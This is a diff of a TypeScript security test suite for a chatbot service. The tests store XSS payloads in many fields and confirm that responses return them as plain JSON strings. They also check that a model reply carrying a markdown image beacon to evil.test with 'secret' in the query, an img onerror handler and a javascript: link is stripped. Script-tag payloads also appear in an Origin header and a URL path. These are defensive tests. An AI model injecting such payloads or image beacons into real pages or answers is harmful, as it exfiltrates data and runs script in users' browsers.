@@ -47,7 +47,12 @@ function strings(v: unknown, out: string[] = []): string[] {
 
 beforeAll(async () => {
   llm = await startFakeOpenAI()
-  t = await createTestApp({ LLM_API_KEY: 'test-key', LLM_BASE_URL: llm.url, LLM_MODEL: 'fake-model', WORKER_POLL_MS: '60000' })
+  t = await createTestApp({
+    LLM_API_KEY: 'test-key',
+    LLM_BASE_URL: llm.url,
+    LLM_MODEL: 'fake-model',
+    WORKER_POLL_MS: '60000',
+  })
   owner = await t.login(OWNER)
   agent = await t.login()
   bot = (await t.deps.pool.query(`select id from bots where tenant_id = $1 limit 1`, [TENANT])).rows[0].id
@@ -57,12 +62,48 @@ beforeAll(async () => {
   session = v
   for (const [i, p] of PAYLOADS.entries()) {
     await ok(await v.send(p, `xss-${i}`))
-    await ok(await t.json('POST', `/v1/tenants/${TENANT}/sessions/${v.id}/messages`, { content: p }, agent), 201)
-    await ok(await t.json('POST', `/v1/tenants/${TENANT}/knowledge/faqs`, { question: `Xss question ${i} wombat`, answer: `wombat ${p}`, language: 'en' }, owner), 201)
-    await ok(await t.json('POST', `/v1/tenants/${TENANT}/canned-replies`, { shortcut: `xss${i}`, title: p, content: p }, agent), 201)
-    await ok(await t.json('POST', `/v1/tenants/${TENANT}/escalation-rules`, { name: p, trigger_keywords: [`xsskw${i}`] }, owner), 201)
+    await ok(
+      await t.json('POST', `/v1/tenants/${TENANT}/sessions/${v.id}/messages`, { content: p }, agent),
+      201,
+    )
+    await ok(
+      await t.json(
+        'POST',
+        `/v1/tenants/${TENANT}/knowledge/faqs`,
+        { question: `Xss question ${i} wombat`, answer: `wombat ${p}`, language: 'en' },
+        owner,
+      ),
+      201,
+    )
+    await ok(
+      await t.json(
+        'POST',
+        `/v1/tenants/${TENANT}/canned-replies`,
+        { shortcut: `xss${i}`, title: p, content: p },
+        agent,
+      ),
+      201,
+    )
+    await ok(
+      await t.json(
+        'POST',
+        `/v1/tenants/${TENANT}/escalation-rules`,
+        { name: p, trigger_keywords: [`xsskw${i}`] },
+        owner,
+      ),
+      201,
+    )
   }
-  await ok(await upload(t, TENANT, owner, `Numbat care guide.\n\n${PAYLOADS.join('\n\n')}\n\nNumbats eat termites.`, 'numbat.txt'), 202)
+  await ok(
+    await upload(
+      t,
+      TENANT,
+      owner,
+      `Numbat care guide.\n\n${PAYLOADS.join('\n\n')}\n\nNumbats eat termites.`,
+      'numbat.txt',
+    ),
+    202,
+  )
   await ok(await t.json('PATCH', `/v1/tenants/${TENANT}`, { name: PAYLOADS[4] }, owner))
   await ok(await t.json('PATCH', `/v1/bots/${bot}`, { name: PAYLOADS[1] }, owner))
   await t.deps.worker!.drain()
@@ -80,9 +121,19 @@ beforeAll(async () => {
   await get('me', '/v1/me', agent)
   await get('bots', `/v1/tenants/${TENANT}/bots`, agent)
   await get('bot', `/v1/bots/${bot}`, agent)
-  const search = await t.json('POST', `/v1/tenants/${TENANT}/knowledge/search`, { query: 'numbat care guide termites', k: 5 }, owner)
+  const search = await t.json(
+    'POST',
+    `/v1/tenants/${TENANT}/knowledge/search`,
+    { query: 'numbat care guide termites', k: 5 },
+    owner,
+  )
   responses.push({ label: 'search', res: search, body: await search.clone().text() })
-  const err = await t.json('POST', '/v1/sessions', { key: 'pk_demo' }, { origin: 'http://"><script>alert(1)</script>.test' })
+  const err = await t.json(
+    'POST',
+    '/v1/sessions',
+    { key: 'pk_demo' },
+    { origin: 'http://"><script>alert(1)</script>.test' },
+  )
   responses.push({ label: 'error echoing the Origin', res: err, body: await err.clone().text() })
   const notFound = await t.json('GET', `/v1/<script>alert(1)</script>`, undefined, {})
   responses.push({ label: 'unknown route', res: notFound, body: await notFound.clone().text() })
@@ -112,10 +163,13 @@ describe('stored payloads come back as JSON strings, never as markup', () => {
     ['widget config', (s: string[]) => s.includes(PAYLOADS[1]!)],
     ['bot', (s: string[]) => s.includes(PAYLOADS[1]!)],
     ['tenant', (s: string[]) => s.includes(PAYLOADS[4]!)],
-  ] as const)('%s: the payloads are the exact strings that were stored (no server-side HTML rewriting)', (label, check) => {
-    const r = responses.find((x) => x.label === label)!
-    expect(check(strings(JSON.parse(r.body))), `${label}: ${r.body.slice(0, 400)}`).toBe(true)
-  })
+  ] as const)(
+    '%s: the payloads are the exact strings that were stored (no server-side HTML rewriting)',
+    (label, check) => {
+      const r = responses.find((x) => x.label === label)!
+      expect(check(strings(JSON.parse(r.body))), `${label}: ${r.body.slice(0, 400)}`).toBe(true)
+    },
+  )
 
   it('an error that quotes request input is JSON with nosniff too', () => {
     const r = responses.find((x) => x.label === 'error echoing the Origin')!
@@ -171,7 +225,8 @@ describe('the bot never outputs a markdown image', () => {
       headers: { ...session.auth, 'content-type': 'application/json', accept: 'text/event-stream' },
       body: JSON.stringify({ content, client_message_id: crypto.randomUUID() }),
     })
-  const BEACON = 'Numbats eat termites [1]. ![x](https://evil.test/p.png?q=secret) <img src=x onerror=alert(1)> and [home](javascript:alert(1))'
+  const BEACON =
+    'Numbats eat termites [1]. ![x](https://evil.test/p.png?q=secret) <img src=x onerror=alert(1)> and [home](javascript:alert(1))'
 
   it('a model answer with an image and HTML is stored without them', async () => {
     const v = await t.visitor()
@@ -180,7 +235,9 @@ describe('the bot never outputs a markdown image', () => {
     expect(reply.content).toMatch(/termites/)
     expect(reply.content).not.toMatch(IMAGE)
     expect(reply.content).not.toMatch(/<img|onerror/)
-    const row = (await t.deps.pool.query(`select content from chatbot_conversations where id = $1`, [reply.id])).rows[0]
+    const row = (
+      await t.deps.pool.query(`select content from chatbot_conversations where id = $1`, [reply.id])
+    ).rows[0]
     expect(row.content).not.toMatch(IMAGE)
   })
 
@@ -188,7 +245,9 @@ describe('the bot never outputs a markdown image', () => {
     const v = await t.visitor()
     session = v
     llm.script.push({ reply: BEACON })
-    const events = await readEvents(await sse('What do numbats eat?'), (e) => e.some((x) => x.event === 'done'))
+    const events = await readEvents(await sse('What do numbats eat?'), (e) =>
+      e.some((x) => x.event === 'done'),
+    )
     const done = events.find((e) => e.event === 'done')!.data
     expect(done.content).not.toMatch(IMAGE)
   })
@@ -205,8 +264,13 @@ describe('the bot never outputs a markdown image', () => {
     const v = await t.visitor()
     session = v
     llm.script.push({ reply: BEACON })
-    const events = await readEvents(await sse('What do numbats eat?'), (e) => e.some((x) => x.event === 'done'))
-    const streamed = events.filter((e) => e.event === 'delta').map((e) => e.data.text).join('')
+    const events = await readEvents(await sse('What do numbats eat?'), (e) =>
+      e.some((x) => x.event === 'done'),
+    )
+    const streamed = events
+      .filter((e) => e.event === 'delta')
+      .map((e) => e.data.text)
+      .join('')
     expect(streamed).toMatch(/termites/)
     expect(streamed).not.toMatch(IMAGE)
     expect(streamed).not.toMatch(/<img/)
